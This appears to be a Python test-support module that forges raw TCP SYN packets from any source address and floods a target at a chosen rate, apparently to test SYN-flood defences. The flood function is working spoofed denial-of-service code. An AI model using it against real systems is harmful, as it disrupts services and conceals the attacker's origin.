"""Send the first packets of TCP connections from any source address, and receive those that arrive."""

import ipaddress
import socket
import struct
import sys
import threading
import time

ETH_P_ALL = 3
_SYN, _SYN_ACK_MASK, _TCP = 0x02, 0x12, 6
_PIECES = 100  # a second


def syn(source: str, target: str, port: int, from_port: int) -> bytes:
    ends = ipaddress.ip_address(source).packed, ipaddress.ip_address(target).packed
    segment = struct.pack("!HHIIBBHHH", from_port, port, 0, 0, 5 << 4, _SYN, 64240, 0, 0)
    pseudo = b"".join(ends) + struct.pack("!IHH", len(segment), 0, _TCP)
    segment = segment[:16] + struct.pack("!H", _checksum(pseudo + segment)) + segment[18:]
    if len(ends[0]) == 16:
        return struct.pack("!IHBB", 6 << 28, len(segment), _TCP, 64) + b"".join(ends) + segment
    total = 20 + len(segment)
    return struct.pack("!BBHHHBBH", 0x45, 0, total, 0, 0, 64, _TCP, 0) + b"".join(ends) + segment


def send_syn(source: str, target: str, port: int, from_port: int = 40000) -> None:
    with _raw(target) as out:
        out.sendto(syn(source, target, port, from_port), (target, 0))


def syn_sources(wire: socket.socket) -> list[str]:
    wire.setblocking(False)
    sources: list[str] = []
    while True:
        try:
            packet, (_, _, kind, *_) = wire.recvfrom(2048)
        except BlockingIOError:
            return sources
        if kind == socket.PACKET_OUTGOING:
            continue
        start, protocol = (20, packet[9]) if packet[0] >> 4 == 4 else (40, packet[6])
        ends = packet[12:16] if start == 20 else packet[8:24]
        if protocol == _TCP and packet[start + 13] & _SYN_ACK_MASK == _SYN:
            sources.append(str(ipaddress.ip_address(ends)))


def flood_command(source: str, target: str, port: int, *, per_second: int, seconds: float) -> list[str]:
    return [
        sys.executable,
        "-m",
        "tests.support.forged_syns",
        source,
        target,
        str(port),
        str(per_second),
        str(seconds),
    ]


def _flood(source: str, target: str, port: int, per_second: int, seconds: float) -> int:
    packets = [syn(source, target, port, number) for number in range(32768, 61000)]
    begun, pause = time.monotonic(), threading.Event()
    sent = 0
    with _raw(target) as out:
        while (passed := float(time.monotonic() - begun)) < seconds:
            while sent < passed * per_second:
                out.sendto(packets[sent % len(packets)], (target, 0))
                sent += 1
            pause.wait(1 / _PIECES)
    return sent


def _raw(target: str) -> socket.socket:
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    return socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)


def _checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


if __name__ == "__main__":
    _source, _target, _port, _per_second, _seconds = sys.argv[1:]
    sys.stdout.write(f"{_flood(_source, _target, int(_port), int(_per_second), float(_seconds))}\n")
